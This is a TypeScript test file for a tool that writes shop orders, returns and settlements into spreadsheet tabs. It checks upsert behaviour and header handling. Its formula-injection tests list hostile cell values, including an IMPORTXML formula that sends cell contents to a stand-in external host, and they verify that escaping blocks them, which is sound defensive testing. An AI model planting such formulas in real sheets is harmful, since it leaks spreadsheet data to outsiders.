import { generateShop } from '../../dev/generator/shop';
import type { Order, OrderLine } from '../../src/core/records';
import { ORDERS_TAB, ORDER_LINES_TAB, RETURNS_TAB, SETTLEMENTS_TAB, UNSETTLED_TAB, returnsToRows } from '../../src/sheets/tabs';
import { TabHeaderError, bodyRangeName, escapeCell, readTab, unescapeCell, upsert } from '../../src/sheets/table';
import { MemoryGateway } from './memory-gateway';

const { data } = generateShop({ seed: 1, days: 10, ordersPerDay: 50 });
const orders = data.orders;

/**
 * Reports about rows the records do not touch need the whole tab read: test/sheets/table-partial.test.ts
 * runs this file again over partial reads, which report only the rows they read (the report
 * rebuild reads every row and reports bad ones); those tests are for whole-tab reads.
 */
const wholeTabTest = MemoryGateway.name === 'PartialMemoryGateway' ? test.skip : test;

function grid(gw: MemoryGateway, tab: string): unknown[][] {
  return JSON.parse(JSON.stringify(gw.grids.get(tab)));
}

describe('upsert', () => {
  test('one read and one write per tab per call', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDERS_TAB, orders);
    expect(gw.reads.get('Orders')).toBe(1);
    expect(gw.writes.get('Orders')).toBe(1);
  });

  test('idempotent: the same records twice leave an identical sheet and write nothing', () => {
    const gw = new MemoryGateway();
    const first = upsert(gw, ORDERS_TAB, orders);
    expect(first).toMatchObject({ inserted: orders.length, updated: 0, written: true });
    const before = grid(gw, 'Orders');
    const second = upsert(gw, ORDERS_TAB, orders);
    expect(second).toMatchObject({ inserted: 0, updated: 0, unchanged: orders.length, written: false });
    expect(grid(gw, 'Orders')).toEqual(before);
    expect(before).toHaveLength(orders.length + 1);
  });

  test('a newer record replaces its row in place; new ones are appended', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDERS_TAB, orders.slice(0, 10));
    const changed: Order = { ...orders[3], status: 'DELIVERED', updateTime: orders[3].updateTime + 100, shippingFee: 123 };
    const r = upsert(gw, ORDERS_TAB, [changed, orders[10]]);
    expect(r).toMatchObject({ inserted: 1, updated: 1, unchanged: 0 });
    const back = readTab(gw, ORDERS_TAB);
    expect(back.records).toHaveLength(11);
    expect(back.records[3]).toEqual(changed);
    expect(back.rowNumbers[3]).toBe(5);
    expect(back.records[10]).toEqual(orders[10]);
    const row5 = gw.grids.get('Orders')![4];
    expect(row5[ORDERS_TAB.headers.indexOf('Shipping fee')]).toBe(1.23);
  });

  test('an older record does not replace a newer row (overlapping pulls out of order)', () => {
    const gw = new MemoryGateway();
    const newer: Order = { ...orders[0], status: 'COMPLETED', updateTime: orders[0].updateTime + 50 };
    upsert(gw, ORDERS_TAB, [newer]);
    const r = upsert(gw, ORDERS_TAB, [orders[0]]);
    expect(r).toMatchObject({ stale: 1, updated: 0, written: false });
    expect(readTab(gw, ORDERS_TAB).records).toEqual([newer]);
    // Within one call the newest of two copies wins, whatever their order.
    const gw2 = new MemoryGateway();
    upsert(gw2, ORDERS_TAB, [newer, orders[0]]);
    expect(readTab(gw2, ORDERS_TAB).records).toEqual([newer]);
  });

  test('de-dup across overlapping pulls: each key once, in first-seen order', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDER_LINES_TAB, data.lines.slice(0, 300));
    upsert(gw, ORDER_LINES_TAB, data.lines.slice(200, 500));
    const r = upsert(gw, ORDER_LINES_TAB, [...data.lines.slice(450), ...data.lines.slice(0, 10)]);
    expect(r.inserted).toBe(data.lines.length - 500);
    const back = readTab(gw, ORDER_LINES_TAB);
    expect(back.records).toEqual(data.lines);
  });

  test('reordered and extra user columns: matched by header name, user cells kept', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDER_LINES_TAB, data.lines.slice(0, 5));
    // The user reverses the columns, adds a "Notes" column in the middle and changes header case.
    const g = gw.grids.get('Order lines')!;
    const reordered = g.map((row, i) => {
      const rev = [...row].reverse();
      rev.splice(3, 0, i === 0 ? 'Notes' : `note ${i}`);
      return rev;
    });
    reordered[0] = reordered[0].map((h) => (h === 'Sale price' ? '  SALE PRICE ' : h));
    gw.setRaw('Order lines', reordered);
    const changed: OrderLine = { ...data.lines[2], salePrice: 1 };
    const r = upsert(gw, ORDER_LINES_TAB, [changed, data.lines[5]]);
    expect(r).toMatchObject({ inserted: 1, updated: 1 });
    const after = gw.grids.get('Order lines')!;
    expect(after[0]).toEqual(reordered[0]);
    expect(after.map((row) => row[3])).toEqual(['Notes', 'note 1', 'note 2', 'note 3', 'note 4', 'note 5', '']);
    expect(readTab(gw, ORDER_LINES_TAB).records).toEqual([...data.lines.slice(0, 2), changed, ...data.lines.slice(3, 6)]);
  });

  test('a missing required column: clear error naming tab and column, nothing written', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDERS_TAB, orders.slice(0, 3));
    const g = grid(gw, 'Orders');
    const col = ORDERS_TAB.headers.indexOf('Shipping fee');
    gw.setRaw('Orders', g.map((row) => row.filter((_, i) => i !== col)));
    const before = grid(gw, 'Orders');
    const writes = gw.writes.get('Orders');
    expect(() => upsert(gw, ORDERS_TAB, orders.slice(0, 5))).toThrow(TabHeaderError);
    expect(() => upsert(gw, ORDERS_TAB, orders.slice(0, 5))).toThrow('Orders tab: column "Shipping fee" is missing from the header row');
    expect(gw.writes.get('Orders')).toBe(writes);
    expect(grid(gw, 'Orders')).toEqual(before);
  });

  test('a missing optional fee column is appended, not an error', () => {
    const gw = new MemoryGateway();
    upsert(gw, SETTLEMENTS_TAB, data.transactions.slice(0, 3));
    const col = SETTLEMENTS_TAB.headers.indexOf('VAT');
    gw.setRaw('Settlements', grid(gw, 'Settlements').map((row) => row.filter((_, i) => i !== col)));
    const t = { ...data.transactions[3], fees: { ...data.transactions[3].fees, vat_amount: -99 } };
    upsert(gw, SETTLEMENTS_TAB, [t]);
    const headers = gw.grids.get('Settlements')![0];
    expect(headers[headers.length - 1]).toBe('VAT');
    expect(readTab(gw, SETTLEMENTS_TAB).records.slice(3)).toEqual([t]);
  });

  wholeTabTest('rows that do not parse are reported with row and column, and kept', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDERS_TAB, orders.slice(0, 3));
    const g = grid(gw, 'Orders');
    const fee = ORDERS_TAB.headers.indexOf('Shipping fee');
    const userRow = g[1].map(() => '');
    userRow[0] = 'my own row';
    g.push(userRow);
    g[2][fee] = 'abc';
    gw.setRaw('Orders', g);
    const r = upsert(gw, ORDERS_TAB, [orders[5]]);
    expect(r.invalid.map((x) => x.row)).toEqual([3, 5]);
    expect(r.invalid[0].message).toBe('Orders tab, row 3, column "Shipping fee": expected an amount in USD, got "abc"');
    expect(r.invalid[1].message).toBe('Orders tab, row 5, column "Currency": expected a known ISO 4217 currency code such as USD, got an empty cell');
    const after = gw.grids.get('Orders')!;
    expect(after).toHaveLength(6);
    expect(after[2][fee]).toBe('abc');
    expect(after[4][0]).toBe('my own row');
    // The record for the broken row's key repairs it in place.
    const r2 = upsert(gw, ORDERS_TAB, [orders[1]]);
    expect(r2.updated).toBe(1);
    const back = readTab(gw, ORDERS_TAB);
    expect(back.records[1]).toEqual(orders[1]);
    expect(back.invalid.map((x) => x.row)).toEqual([5]);
  });

  test('a record that fails its schema is refused before anything is read or written', () => {
    const gw = new MemoryGateway();
    const bad = { ...orders[1], shippingFee: 1.5 } as Order;
    expect(() => upsert(gw, ORDERS_TAB, [orders[0], bad])).toThrow(`order ${orders[1].orderId}: field "shippingFee" expected a whole number, got 1.5`);
    expect(gw.grids.size).toBe(0);
    expect(gw.writes.size).toBe(0);
  });

  test('a header the user wrote as text that looks like a formula stays text', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDERS_TAB, orders.slice(0, 1));
    const g = grid(gw, 'Orders');
    g[0].push('=my notes');
    g[1].push('-5 days');
    gw.setRaw('Orders', g);
    upsert(gw, ORDERS_TAB, orders.slice(1, 2));
    expect(gw.formulas).toEqual([]);
    expect(gw.grids.get('Orders')![0].slice(-1)).toEqual(['=my notes']);
    expect(gw.grids.get('Orders')![1].slice(-1)).toEqual(['-5 days']);
  });

  wholeTabTest('duplicate keys already on the sheet are reported', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDERS_TAB, orders.slice(0, 2));
    const g = grid(gw, 'Orders');
    g.push(g[1]);
    gw.setRaw('Orders', g);
    const r = upsert(gw, ORDERS_TAB, []);
    expect(r.duplicates.map((d) => d.row)).toEqual([4]);
  });

  test('blank rows are dropped; an empty call writes nothing', () => {
    const gw = new MemoryGateway();
    upsert(gw, ORDERS_TAB, orders.slice(0, 2));
    const g = grid(gw, 'Orders');
    g.splice(2, 0, g[1].map(() => ''));
    gw.setRaw('Orders', g);
    upsert(gw, ORDERS_TAB, []);
    expect(gw.grids.get('Orders')).toHaveLength(3);
    expect(upsert(gw, ORDERS_TAB, []).written).toBe(false);
  });

  test('returns: a return is replaced as a whole (a line it no longer has loses its row)', () => {
    const gw = new MemoryGateway();
    const base = data.returns[0];
    const two = { ...base, lines: [base.lines[0], { ...base.lines[0], lineId: 'L2', skuId: 'S2' }] };
    upsert(gw, RETURNS_TAB, returnsToRows([two, data.returns[1]]));
    expect(gw.grids.get('Returns')).toHaveLength(4);
    const one = { ...base, updateTime: base.updateTime + 10, lines: [base.lines[0]] };
    const r = upsert(gw, RETURNS_TAB, returnsToRows([one]));
    expect(r).toMatchObject({ updated: 1, removed: 1 });
    expect(readTab(gw, RETURNS_TAB).records).toEqual(returnsToRows([one, data.returns[1]]));
  });
});

describe('formula injection', () => {
  const evil = ['=IMPORTXML("https://x.example/?"&A1,"//a")', '+1+2', '-cmd', '@SUM(A1)', '\t=1', '\r=1', "'quoted", '0012', '576900000000000001', '2025-02-17', 'TRUE', '#N/A'];

  test('escape: dangerous or coercible text gets the quote prefix; numbers, booleans and plain text do not', () => {
    for (const s of evil) expect(escapeCell(s)).toBe(`'${s}`);
    expect(escapeCell('Ultra Blanket')).toBe('Ultra Blanket');
    expect(escapeCell('USD')).toBe('USD');
    expect(escapeCell(-12.5)).toBe(-12.5);
    expect(escapeCell(false)).toBe(false);
    expect(escapeCell('')).toBe('');
    for (const s of evil) expect(unescapeCell(escapeCell(s))).toBe(s);
  });

  test('text from outside is written as text and read back exactly, never as a formula', () => {
    const gw = new MemoryGateway();
    const lines: OrderLine[] = evil.map((s, i) => ({ ...data.lines[i], productName: s, skuName: s, sellerSku: s }));
    upsert(gw, ORDER_LINES_TAB, lines);
    expect(gw.formulas).toEqual([]);
    const stored = gw.grids.get('Order lines')!;
    expect(stored[1][ORDER_LINES_TAB.headers.indexOf('Product name')]).toBe(evil[0]);
    expect(stored[1][ORDER_LINES_TAB.headers.indexOf('Line ID')]).toBe(data.lines[0].lineId);
    expect(readTab(gw, ORDER_LINES_TAB).records).toEqual(lines);
    // Rewriting the tab (another upsert) keeps them text too.
    upsert(gw, ORDER_LINES_TAB, [data.lines[50]]);
    expect(gw.formulas).toEqual([]);
    expect(readTab(gw, ORDER_LINES_TAB).records).toEqual([...lines, data.lines[50]]);
  });

  test('without escaping the same write would have run formulas and mangled ids (the fake is faithful)', () => {
    const gw = new MemoryGateway();
    gw.write('T', { headers: ['a'], rows: evil.map((s) => [s]) });
    expect(gw.formulas.length).toBeGreaterThanOrEqual(4);
    expect(gw.grids.get('T')![9][0]).toBe(576900000000000000);
  });
});

test('body range names are valid named-range names', () => {
  expect(bodyRangeName('Orders')).toBe('TTS_Orders');
  expect(bodyRangeName('Order lines')).toBe('TTS_Order_lines');
  expect(bodyRangeName('Unsettled estimates')).toMatch(/^[A-Za-z_][A-Za-z0-9_]*$/);
});

describe('a stamp field (Unsettled estimates: fetch time)', () => {
  const shop = generateShop({ seed: 5, days: 12, ordersPerDay: 30 });
  // One estimate per order (the generator keeps several revisions of some orders' estimates).
  const estimates = [...new Map(shop.data.unsettled.map((e) => [e.orderId, e])).values()].slice(0, 20);

  test('re-fetched estimates that say the same thing are unchanged: nothing is written, the first stamp stays', () => {
    expect(estimates.length).toBe(20);
    const gw = new MemoryGateway();
    upsert(gw, UNSETTLED_TAB, estimates);
    const before = gw.grids.get('Unsettled estimates')!.map((r) => [...r]);
    const refetched = estimates.map((e) => ({ ...e, fetchedTime: e.fetchedTime + 3600 }));
    const r = upsert(gw, UNSETTLED_TAB, refetched);
    expect([r.inserted, r.updated, r.unchanged, r.written]).toEqual([0, 0, 20, false]);
    expect(gw.writes.get('Unsettled estimates')).toBe(1);
    expect(gw.grids.get('Unsettled estimates')).toEqual(before);
  });

  test('a re-fetched estimate that changed replaces the row, with its new stamp', () => {
    const gw = new MemoryGateway();
    upsert(gw, UNSETTLED_TAB, estimates);
    const changed = { ...estimates[3], fetchedTime: estimates[3].fetchedTime + 60, estFeeTaxAmount: estimates[3].estFeeTaxAmount - 1 };
    const r = upsert(gw, UNSETTLED_TAB, [changed]);
    expect([r.updated, r.unchanged, r.written]).toEqual([1, 0, true]);
    const back = readTab(gw, UNSETTLED_TAB).records.find((e) => e.orderId === changed.orderId)!;
    expect(back.fetchedTime).toBe(changed.fetchedTime);
    expect(back.estFeeTaxAmount).toBe(changed.estFeeTaxAmount);
  });
});

describe('optional columns join a tab when first used (the fee breakdown)', () => {
  const shop = generateShop({ seed: 2, days: 15, ordersPerDay: 40 });
  const transactions = shop.data.transactions;

  test('the Settlements tab has the required columns and only the fee fields some transaction uses; it reads back exactly', () => {
    const gw = new MemoryGateway();
    const withoutVat = transactions.filter((t) => t.fees.vat_amount === undefined);
    upsert(gw, SETTLEMENTS_TAB, withoutVat);
    const headers = gw.grids.get('Settlements')![0] as string[];
    const usedFees = new Set(withoutVat.flatMap((t) => Object.keys(t.fees)));
    const required = SETTLEMENTS_TAB.columns.filter((c) => !c.optional).length;
    expect(usedFees.size).toBeGreaterThan(3);
    expect(headers.length).toBe(required + usedFees.size);
    expect(headers.length).toBeLessThan(SETTLEMENTS_TAB.headers.length - 20);
    expect(readTab(gw, SETTLEMENTS_TAB).records).toEqual(withoutVat);

    // A transaction with a fee field not seen yet adds its column; the earlier rows read back unchanged.
    const withVat = transactions.filter((t) => t.fees.vat_amount !== undefined);
    expect(withVat.length).toBeGreaterThan(0);
    upsert(gw, SETTLEMENTS_TAB, withVat);
    const after = gw.grids.get('Settlements')![0] as string[];
    expect(after.length).toBe(headers.length + 1);
    expect(after[after.length - 1]).toBe(SETTLEMENTS_TAB.headers.find((h) => /vat/i.test(h)));
    const back = readTab(gw, SETTLEMENTS_TAB).records;
    expect(back).toHaveLength(withoutVat.length + withVat.length);
    expect(new Map(back.map((t) => [t.transactionId, t]))).toEqual(new Map([...withoutVat, ...withVat].map((t) => [t.transactionId, t])));
  });
});

describe('only the rows from the first change on are written', () => {
  const shop = generateShop({ seed: 4, days: 10, ordersPerDay: 30 });
  const orders = shop.data.orders;

  test('appending writes the new rows; updating row k writes rows k..end; nothing changed writes nothing', () => {
    expect(orders.length).toBeGreaterThan(200);
    const gw = new MemoryGateway();
    upsert(gw, ORDERS_TAB, orders.slice(0, 200));
    const w = ORDERS_TAB.baseHeaders.length;
    expect(gw.cellsWritten).toBe(200 * w); // the header row came with the new tab

    gw.cellsWritten = 0;
    upsert(gw, ORDERS_TAB, orders.slice(190, 210)); // 10 unchanged, 10 new
    expect(gw.cellsWritten).toBe(10 * w);

    gw.cellsWritten = 0;
    const changed = { ...orders[150], updateTime: orders[150].updateTime + 60, status: 'CANCELLED' as const };
    upsert(gw, ORDERS_TAB, [changed]);
    expect(gw.cellsWritten).toBe((210 - 150) * w);

    gw.cellsWritten = 0;
    const r = upsert(gw, ORDERS_TAB, orders.slice(0, 100));
    expect([r.unchanged, r.written, gw.cellsWritten]).toEqual([100, false, 0]);

    // And the sheet is the whole table, in order.
    const back = readTab(gw, ORDERS_TAB).records;
    expect(back).toEqual([...orders.slice(0, 150), changed, ...orders.slice(151, 210)]);
  });
});
